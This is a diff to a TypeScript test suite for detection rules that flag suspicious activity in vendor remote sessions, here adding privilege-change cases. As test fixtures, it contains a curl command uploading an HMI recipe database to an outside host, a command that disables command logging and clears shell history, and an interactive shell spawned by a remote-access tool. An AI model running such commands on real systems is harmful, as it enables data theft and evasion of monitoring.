@@ -16,6 +16,10 @@ interface Case {
 
 const proc = (Image: string, CommandLine: string, extra: Fields = {}): Fields => ({ Image, CommandLine, ProcessId: 4242, ParentProcessId: 4000, User: 'vendor1', ...extra });
 const inSession = { SessionId: 'ssh-abc' };
+/** A uid change as the connector reports it: from a real user to another; a setuid program's effective user is root before. */
+const uidChange = (from: string, to: string, extra: Fields = {}): Fields => ({
+  ProcessId: 4242, ParentProcessId: 4000, Image: '/usr/bin/sudo', CommandLine: 'sudo -i', User: to, RealUser: to, PreviousUser: 'root', PreviousRealUser: from, ...extra,
+});
 
 const cases: Record<string, Case> = {
   'Remote Session Outside a Maintenance Window': { category: 'remote_session', match: { Action: 'start', InMaintenanceWindow: false }, miss: { Action: 'start', InMaintenanceWindow: true } },
@@ -35,6 +39,8 @@ const cases: Record<string, Case> = {
   'Interactive Shell Started by a Remote-Access Tool': { category: 'process_creation', match: proc('/usr/bin/bash', 'bash -i', { ParentImage: '/opt/anydesk/anydesk' }), miss: proc('/usr/bin/bash', 'bash -i', { ParentImage: '/usr/sbin/sshd' }) },
   'Recorded Shell Refused by the O&M Policy': { category: 'remote_session', match: { Action: 'refused', Tool: 'omwatch-shell', Reason: 'a change ticket is required' }, miss: { Action: 'start', Tool: 'omwatch-shell' } },
   'Command Reporting Turned Off in a Recorded Shell': { category: 'shell_command', match: { CommandLine: 'trap - DEBUG; history -c', SessionId: 'shell-1', User: 'vendor1' }, miss: { CommandLine: 'systemctl status plc-gateway', SessionId: 'shell-1', User: 'vendor1' } },
+  'Process Took Root Inside a Remote Session': { category: 'process_privilege_change', match: uidChange('vendor1', 'root', inSession), miss: uidChange('root', 'vendor1', inSession) },
+  'Root Taken Without a Setuid Program': { category: 'process_privilege_change', match: uidChange('vendor1', 'root', { PreviousUser: 'vendor1' }), miss: uidChange('vendor1', 'root') },
   'Data Transfer Tool Inside a Remote Session': { category: 'process_creation', match: proc('/usr/bin/curl', 'curl -T /opt/hmi/recipes.db https://example.net/up', inSession), miss: proc('/usr/bin/curl', 'curl -s http://127.0.0.1:8080/health', inSession) },
 };
 
